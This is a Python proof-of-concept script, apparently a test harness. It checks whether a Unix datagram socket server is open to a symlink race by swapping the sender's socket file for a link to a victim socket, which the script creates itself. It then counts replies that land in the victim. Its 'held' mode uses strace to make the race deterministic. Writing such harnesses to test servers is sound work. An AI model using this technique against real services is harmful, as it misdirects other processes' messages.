# attacker.py SERVER-PATH DIR loop SECONDS | held SERVER-PID
#
# A sender that swaps its socket file for a symlink to a victim socket, hoping the server checks
# the file and then sends to the path: the reply then lands in the victim. Prints how many of the
# server's replies reached us and how many reached the victim.
#   loop SECONDS   send and swap as fast as possible (the window is microseconds wide)
#   held PID       send once; when the server (PID, under strace with its sendto held at entry)
#                  is stopped in sendto, swap: whatever the server checked, it sends now
import os, socket, sys, time

server, d, mode = sys.argv[1], sys.argv[2], sys.argv[3]
me_path, hide, target = f"{d}/attacker.sock", f"{d}/attacker.hidden", f"{d}/victim.sock"
for p in (me_path, hide, target, me_path + ".new"):
    if os.path.lexists(p):
        os.unlink(p)
victim = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
victim.bind(target)
me = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
me.bind(me_path)

def to_symlink():  # P: our socket file moved away, a symlink to the victim in its place
    os.rename(me_path, hide)
    os.symlink(target, me_path + ".new")
    os.rename(me_path + ".new", me_path)

def back():  # P: our socket file again (over the symlink)
    os.rename(hide, me_path)

def count(sock, wait):
    """Reads every datagram that is there (after waiting up to `wait` s for the first)."""
    n = 0
    sock.settimeout(wait if wait > 0 else None)
    if wait == 0:
        sock.setblocking(False)
    try:
        while True:
            sock.recv(5000)
            n += 1
            sock.setblocking(False)
    except (socket.timeout, BlockingIOError):
        return n
    finally:
        sock.setblocking(True)

if mode == "loop":
    end = time.monotonic() + float(sys.argv[4])
    sent = mine = stolen = 0
    while time.monotonic() < end:
        me.sendto(b"x" * 64, server)
        sent += 1
        to_symlink()
        back()
        if sent % 8 == 0:  # keep both queues short (max_dgram_qlen): read what came
            mine += count(me, 0)
            stolen += count(victim, 0)
    print(sent, mine + count(me, 0.5), stolen + count(victim, 0.1))
else:
    pid = int(sys.argv[4])
    me.sendto(b"steal this", server)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:  # wait until it is stopped at sendto's entry ('t')
        with open(f"/proc/{pid}/stat") as f:
            if f.read().rsplit(")", 1)[1].split()[0] == "t":
                break
    else:
        sys.exit("the server never stopped in sendto")
    to_symlink()
    print(1, count(me, 2), count(victim, 0.5))
